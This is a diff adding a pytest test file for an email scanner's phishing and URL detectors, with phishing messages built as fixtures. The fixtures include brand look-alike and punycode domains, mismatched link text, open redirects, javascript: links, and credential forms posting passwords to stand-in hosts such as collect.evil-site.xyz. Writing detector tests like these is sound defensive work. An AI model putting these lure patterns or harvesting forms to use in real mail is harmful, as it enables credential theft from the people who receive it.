@@ -1,0 +1,259 @@
+"""The `urls` family on messages built here: each phishing sign, and honest mail that has none."""
+
+from __future__ import annotations
+
+import pytest
+
+from mailmoat.scan.base import Category
+from tests.conftest import make_config, make_email, scan_bytes, symbol_names
+
+PHISH_SYMBOLS_PREFIXES = ("URL_", "PHISH_")
+
+
+def ours(outcome) -> set[str]:
+    return {n for n in symbol_names(outcome) if n.startswith(PHISH_SYMBOLS_PREFIXES)}
+
+
+def reason(outcome, name: str) -> str:
+    sym = outcome.result.get(name)
+    assert sym is not None, f"{name} not in {symbol_names(outcome)}"
+    return sym.reason
+
+
+async def test_link_text_domain_differs_from_href_ip():
+    html = '<p>Log in at <a href="http://203.0.113.7/signin">https://www.paypal.com/signin</a></p>'
+    out = await scan_bytes(make_email(html=html))
+    assert reason(out, "URL_HREF_MISMATCH_BRAND") == \
+        "link text shows www.paypal.com (paypal) but points to 203.0.113.7"
+    assert "203.0.113.7" in reason(out, "URL_IP_HOST")
+    assert out.result.category is Category.PHISHING
+
+
+async def test_link_text_unprotected_domain_mismatch_is_weaker():
+    html = '<a href="https://tracker.other-site.test.com/x">www.shop-example.org</a>'
+    out = await scan_bytes(make_email(html=html))
+    assert "link text shows www.shop-example.org but points to tracker.other-site.test.com" == \
+        reason(out, "URL_HREF_MISMATCH")
+    assert not out.result.has("URL_HREF_MISMATCH_BRAND")
+
+
+async def test_ip_literal_and_nonstandard_port():
+    out = await scan_bytes(make_email(body="Verify here: http://198.51.100.23:8181/account/verify\n"))
+    assert "198.51.100.23" in reason(out, "URL_IP_HOST")
+    assert "port 8181" in reason(out, "URL_NONSTANDARD_PORT")
+
+
+async def test_private_ip_and_localhost_are_not_phishing():
+    out = await scan_bytes(make_email(body="Dev server: http://127.0.0.1:8000/ and http://10.1.2.3/\n"
+                                           "and http://localhost:3000/\n"))
+    assert not ours(out)
+
+
+async def test_punycode_homograph_of_brand():
+    # xn--pypal-4ve.com is "pаypal.com" with a Cyrillic "а".
+    html = '<a href="https://xn--pypal-4ve.com/login">Sign in</a>'
+    out = await scan_bytes(make_email(html=html))
+    assert "xn--pypal-4ve.com is punycode for pаypal.com" in reason(out, "URL_PUNYCODE")
+    assert "mixes scripts" in reason(out, "URL_MIXED_SCRIPT")
+    assert "look-alike characters for paypal" in reason(out, "URL_LOOKALIKE_BRAND")
+
+
+@pytest.mark.parametrize("host,how", [
+    ("paypa1.com", "look-alike characters for paypal"),
+    ("rnicrosoft.com", "look-alike characters for microsoft"),
+    ("paypall.net", "one typo away from paypal"),
+    ("paypal-account-secure.com", "embeds paypal"),
+])
+async def test_brand_lookalike_hosts(host, how):
+    out = await scan_bytes(make_email(body=f"Please check https://{host}/login today.\n"))
+    assert how in reason(out, "URL_LOOKALIKE_BRAND")
+
+
+async def test_lookalike_of_company_and_partner_domains():
+    cfg = make_config(bec={"protected_domains": ["partner-bank.test"]})
+    out = await scan_bytes(make_email(body="Docs: https://portal.examp1e.test/x and "
+                                           "https://partner-bamk.test/pay\n"), cfg)
+    r = reason(out, "URL_LOOKALIKE_COMPANY")
+    assert "examp1e.test uses look-alike characters for example" in r
+    assert "(and 1 more)" in r
+
+
+async def test_brand_in_subdomain_of_foreign_domain():
+    out = await scan_bytes(make_email(body="https://paypal.com.account-review.xyz/session\n"))
+    assert "puts paypal in front of unrelated account-review.xyz" in reason(out, "URL_BRAND_IN_SUBDOMAIN")
+
+
+async def test_shortener():
+    out = await scan_bytes(make_email(body="Track your parcel: https://bit.ly/3xYz12\n"))
+    assert reason(out, "URL_SHORTENER") == "link goes through the shortener bit.ly"
+
+
+async def test_open_redirect_known_and_generic():
+    html = ('<a href="https://www.google.com/url?q=https://evil-login.xyz/a&sa=D">open</a>'
+            '<a href="https://news.somesite.test.com/r?redirect=https%3A%2F%2Fevil2.xyz%2F">b</a>')
+    out = await scan_bytes(make_email(html=html))
+    sym = out.result.get("URL_OPEN_REDIRECT")
+    assert "www.google.com redirects to evil-login.xyz" in sym.reason
+    assert sym.score == 2.0  # the known redirector wins over the generic one
+
+
+async def test_data_and_javascript_urls():
+    html = ('<a href="javascript:document.location=\'http://x.test\'">Open</a>'
+            '<iframe src="data:text/html;base64,PGgxPkxvZ2luPC9oMT4="></iframe>'
+            '<img src="data:image/png;base64,iVBORw0KGgo=">')
+    out = await scan_bytes(make_email(html=html))
+    assert reason(out, "URL_JAVASCRIPT").startswith("link runs code: javascript:")
+    assert reason(out, "URL_DATA_URI").startswith("iframe carries a data: URL (data:text/html")
+
+
+async def test_inline_data_image_alone_is_fine():
+    out = await scan_bytes(make_email(html='<p>Logo <img src="data:image/png;base64,iVBORw0KGgo="></p>'))
+    assert not ours(out)
+
+
+async def test_credential_form_in_body():
+    html = ('<form action="https://collect.evil-site.xyz/post.php" method="post">'
+            '<input type="email" name="email"><input type="password" name="pass">'
+            '<input type="submit"></form>')
+    out = await scan_bytes(make_email(html=html))
+    assert reason(out, "PHISH_FORM_PASSWORD") == "the HTML body has a password field (pass)"
+    assert "email" in reason(out, "PHISH_FORM_CREDENTIALS")
+    assert reason(out, "PHISH_FORM_FOREIGN_ACTION") == \
+        "a form in the body submits to evil-site.xyz, not the sender's sender.test"
+
+
+async def test_search_form_to_other_domain_is_not_credential_form():
+    html = '<form action="https://search.other.test.com/s"><input type="text" name="q"></form>'
+    out = await scan_bytes(make_email(html=html))
+    assert not ours(out)
+
+
+async def test_credential_form_in_html_attachment():
+    page = (b"<html><body><h1>OneDrive</h1><form action='https://203.0.113.9/p.php'>"
+            b"<input name='login'><input type='password' name='pwd'></form>"
+            b"<script>var s=atob('aHR0cDovL2V2aWw=');</script></body></html>")
+    out = await scan_bytes(make_email(attachments=[("Invoice_8812.html", "text/html", page)]))
+    assert reason(out, "PHISH_HTML_ATTACHMENT_FORM") == \
+        "attachment Invoice_8812.html holds a password field"
+    assert "atob(" in reason(out, "PHISH_HTML_ATTACHMENT_SCRIPT")
+    # URLs inside the attachment are analysed too.
+    assert "attached HTML" in reason(out, "URL_IP_HOST")
+
+
+async def test_brand_in_display_name_not_matching_sender():
+    out = await scan_bytes(make_email(sender='"PayPal Service" <x@randomdomain.biz>'))
+    assert reason(out, "PHISH_BRAND_DISPLAY_NAME") == \
+        "display name 'PayPal Service' names paypal but the address is x@randomdomain.biz"
+
+
+async def test_chinese_brand_in_display_name():
+    out = await scan_bytes(make_email(sender='"中国工商银行" <notice@icbc-security.top>'))
+    assert "names icbc" in reason(out, "PHISH_BRAND_DISPLAY_NAME")
+    assert "embeds icbc" in reason(out, "PHISH_BRAND_LOOKALIKE_SENDER")
+
+
+async def test_brand_display_name_from_the_brand_itself_is_fine():
+    out = await scan_bytes(make_email(sender='"PayPal" <service@paypal.com>',
+                                      html='<a href="https://www.paypal.com/myaccount">paypal.com</a>'))
+    assert not ours(out)
+
+
+async def test_brand_country_domain_counts_as_the_brand():
+    out = await scan_bytes(make_email(sender='"eBay" <news@ebay.com.cn>'))
+    assert not out.result.has("PHISH_BRAND_DISPLAY_NAME")
+
+
+async def test_surname_that_is_a_brand_is_not_the_brand():
+    out = await scan_bytes(make_email(sender='"Scott Norton" <scott.norton@gmail.com>'))
+    assert not ours(out)
+
+
+async def test_brand_named_with_account_lure():
+    out = await scan_bytes(make_email(
+        subject="Your Netflix account is suspended",
+        body="Please verify your billing information to reactivate your membership.\n",
+        sender="Support <support@account-help.biz>"))
+    assert "names netflix" in reason(out, "PHISH_BRAND_LURE")
+
+
+async def test_legit_newsletter_with_many_links_to_own_domain():
+    links = "".join(
+        f'<p><a href="https://click.shop.example.org/t/{i}?u=https://www.shop.example.org/p/{i}">'
+        f'www.shop.example.org/p/{i}</a> <img src="https://img.shop.example.org/{i}.png"></p>'
+        for i in range(60))
+    html = f"<html><body><h1>Weekly deals</h1>{links}<a href='https://www.shop.example.org/unsub'>" \
+           f"Unsubscribe</a></body></html>"
+    out = await scan_bytes(make_email(sender='"Shop Weekly" <news@shop.example.org>', html=html,
+                                      subject="This week's deals"))
+    assert not ours(out)
+    assert out.result.category is Category.CLEAN
+
+
+async def test_config_brands_replace_builtins_and_define_new_ones():
+    cfg = make_config(phishing={"brands": ["paypal", "Acme Bank: acmebank.test, acme.test"]})
+    out = await scan_bytes(make_email(sender='"Acme Bank Alerts" <alerts@acrnebank.test>',
+                                      body="see https://netflix-billing.xyz/\n"), cfg)
+    assert "names acme bank" in reason(out, "PHISH_BRAND_DISPLAY_NAME")
+    assert "acrnebank.test uses look-alike characters for acmebank" in \
+        reason(out, "PHISH_BRAND_LOOKALIKE_SENDER")
+    assert not out.result.has("URL_LOOKALIKE_BRAND")  # netflix is not protected any more
+
+
+async def test_unknown_builtin_brand_is_a_clear_config_error():
+    from mailmoat.errors import ConfigError
+
+    with pytest.raises(ConfigError, match="unknown built-in brand 'nosuchbrand'"):
+        await scan_bytes(make_email(), make_config(phishing={"brands": ["nosuchbrand"]}))
+
+
+async def test_extra_shorteners():
+    cfg = make_config(phishing={"shorteners_extra": ["sho.rt"]})
+    out = await scan_bytes(make_email(body="https://sho.rt/abc\n"), cfg)
+    assert out.result.has("URL_SHORTENER")
+
+
+async def test_same_href_again_with_brand_text_is_still_checked():
+    bad = "http://taboufashions.test.com/secure/"
+    html = (f'<a href="{bad}"><img src="https://images.paypal.com/logo.gif"></a>'
+            f'<a href="{bad}">https://www.paypal.com/us/</a>')
+    out = await scan_bytes(make_email(html=html))
+    assert reason(out, "URL_HREF_MISMATCH_BRAND") == \
+        "link text shows www.paypal.com (paypal) but points to taboufashions.test.com"
+
+
+async def test_brand_sender_whose_links_all_go_elsewhere():
+    html = ('<img src="https://images.paypal.com/logo.gif">'
+            '<a href="http://joeypc.test.com/restore">Click here to restore your account</a>')
+    out = await scan_bytes(make_email(sender='"PayPal" <service@paypal.com>', html=html))
+    assert reason(out, "PHISH_BRAND_SENDER_FOREIGN_LINKS") == \
+        "mail from paypal.com (paypal) links only to test.com"
+    # A person writing from gmail.com is not Google.
+    out = await scan_bytes(make_email(sender="Ann <ann@gmail.com>", html=html))
+    assert not out.result.has("PHISH_BRAND_SENDER_FOREIGN_LINKS")
+
+
+async def test_obfuscated_lure_words_in_subject_and_display_name():
+    out = await scan_bytes(make_email(subject="Someone tried to Iog in to your account"))
+    assert reason(out, "PHISH_OBFUSCATED_WORD") == (
+        "subject 'Someone tried to Iog in to your account' spells 'log in' as 'Iog in'")
+    out = await scan_bytes(make_email(sender='"Microsоft Support" <a@b.test>'))  # Cyrillic о
+    assert "spells 'microsoft'" in reason(out, "PHISH_OBFUSCATED_WORD")
+    out = await scan_bytes(make_email(subject="Blog in progress: account update for the café"))
+    assert not out.result.has("PHISH_OBFUSCATED_WORD")
+
+
+async def test_brand_lure_without_a_sender_domain():
+    raw = make_email(subject="Microsoft account unusual sign-in activity",
+                     body="We detected unusual activity. Verify your password now.",
+                     sender="undisclosed-recipients:;")
+    out = await scan_bytes(raw)
+    assert "comes from no sender domain" in reason(out, "PHISH_BRAND_LURE")
+
+
+async def test_safelinks_wrapper_is_looked_through():
+    from urllib.parse import quote
+
+    inner = "http://198.51.100.77/owa/login"
+    wrapped = f"https://eur01.safelinks.protection.outlook.com/?url={quote(inner, safe='')}&data=x"
+    out = await scan_bytes(make_email(html=f'<a href="{wrapped}">Open document</a>'))
+    assert "198.51.100.77" in reason(out, "URL_IP_HOST")
